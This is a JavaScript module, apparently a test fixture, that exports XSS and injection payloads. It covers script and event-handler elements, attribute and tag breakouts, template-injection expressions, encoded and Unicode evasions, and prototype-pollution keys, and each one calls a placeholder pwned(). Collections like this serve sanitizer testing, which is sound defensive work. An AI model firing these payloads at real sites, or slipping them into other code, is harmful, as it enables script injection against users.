// Texts that become markup or code where a page takes them for more than text: known elements and handlers, alone and behind every
// way out of the place that a text may stand in, and what fools parsers, templates and readers. Each would call `pwned()`.
// Imports nothing.

const elements = [
  '<script>pwned()</script>', '<script src="data:text/javascript,pwned()"></script>', '<img src=x onerror=pwned()>', '<img/src="x"/onerror="pwned()">', '<svg onload=pwned()>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>', '<svg><script>pwned()</script></svg>', '<svg><a href="javascript:pwned()"><text>x</text></a></svg>',
  '<iframe src="javascript:parent.pwned()"></iframe>', '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>', '<object data="javascript:pwned()"></object>', '<embed src="javascript:pwned()">',
  '<a href="javascript:pwned()" autofocus onfocus=pwned()>x</a>', '<form action="javascript:pwned()"><button>x</button></form>', '<input autofocus onfocus=pwned()>',
  '<details open ontoggle=pwned()>', '<video><source onerror=pwned()></video>', '<audio src=x onerror=pwned()>', '<marquee onstart=pwned()>x</marquee>', '<body onload=pwned()>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">', '<style>@import "javascript:pwned()";</style>', '<link rel=stylesheet href="data:text/css,*{}" onload=pwned()>',
  '<meta http-equiv=refresh content="0;url=javascript:pwned()">', '<base href="javascript:pwned()//">', '<xss onpointerrawupdate=pwned() autofocus tabindex=0>',
];

/** Out of an attribute, a comment, and the elements whose content is text. */
const waysOut = ['', '">', "'>", '-->', '</title>', '</textarea>'];

const others = [
  '" onmouseover=pwned() x="', "' autofocus onfocus=pwned() x='", '` onmouseover=pwned() x=`', 'javascript:pwned()', 'java\tscript:pwned()', 'data:text/html,<script>pwned()</script>',
  '{{constructor.constructor("pwned()")()}}', '${pwned()}', '#{pwned()}', '<%= pwned() %>', '?lit$0$', '<!--?lit$0$--><img src=x onerror=pwned()>', '<?lit$1$?>',
  '&lt;img src=x onerror=pwned()&gt;', '&#60;img src=x onerror=pwned()&#62;', '%3Cimg%20src=x%20onerror=pwned()%3E', '\\u003cimg src=x onerror=pwned()\\u003e', '+ADw-img src=x onerror=pwned()+AD4-',
  '\u202e<img src=x onerror=pwned()>', '\u0000<img src=x onerror=pwned()>', '<\u0000img src=x onerror=pwned()>', '＜img src=x onerror=pwned()＞', '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '</script><script>pwned()</script>', '</style><img src=x onerror=pwned()>', ']]><img src=x onerror=pwned()>', '__proto__', 'constructor', '{"__proto__":{"pwned":1}}', "');pwned();//", '";pwned();//',
];

export const payloads = [...waysOut.flatMap((way) => elements.map((element) => way + element)), ...others];
